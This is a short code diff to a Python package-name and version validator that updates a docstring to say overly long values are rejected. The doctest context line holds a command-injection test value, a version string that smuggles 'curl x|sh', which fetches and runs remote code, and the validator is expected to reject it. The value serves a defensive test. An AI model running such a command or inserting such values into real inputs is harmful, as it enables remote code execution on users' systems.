@@ -20,7 +20,7 @@ _ENDLESS_NUMBER = re.compile(r"\d{400}")
 
 
 def is_package_version(name: str, version: str) -> bool:
-    """Return whether a package name and a version are both valid by the packaging specifications.
+    """Return whether a package name and a version are valid by the packaging specifications, and not very long.
 
     >>> is_package_version("trl", "1.16.0.dev1+g0a1"), is_package_version("trl", "1.16.0';curl x|sh;'")
     (True, False)
